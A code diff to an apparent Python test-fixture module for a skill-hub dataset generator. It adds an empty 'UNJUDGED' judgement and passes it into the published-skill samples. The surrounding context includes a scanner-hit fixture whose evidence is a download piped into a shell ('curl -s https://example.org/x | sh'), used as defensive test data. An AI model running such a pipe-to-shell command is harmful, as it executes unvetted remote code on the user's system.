@@ -7,6 +7,7 @@ from hashlib import sha256
 from pathlib import Path
 
 from generator.jsondata import dump_bytes
+from generator.judge.model import ContextCost, Judgement
 from generator.model import (
     Archive,
     Cache,
@@ -52,6 +53,10 @@ HIT = ScanHit(
     message="Pipes a download into a shell",
     evidence="curl -s https://example.org/x | sh",
 )
+
+
+UNJUDGED = Judgement((), (), (), ContextCost(0, 0, ()))
+"""Golden documents hold nothing of the judge's."""
 
 
 @dataclass(frozen=True, slots=True)
@@ -162,7 +167,7 @@ def sample(
     archives = {old.version: old_zip, new.version: new_zip}
     blocked = {one.version for one in (old, new) if one.scan.verdict is ScanVerdict.BLOCK}
     served = {version: data for version, data in archives.items() if version not in blocked}
-    return Sample(PublishedSkill(HUB, listing, (new, old), folder), served)
+    return Sample(PublishedSkill(HUB, listing, (new, old), folder, UNJUDGED), served)
 
 
 def samples() -> tuple[Sample, ...]:
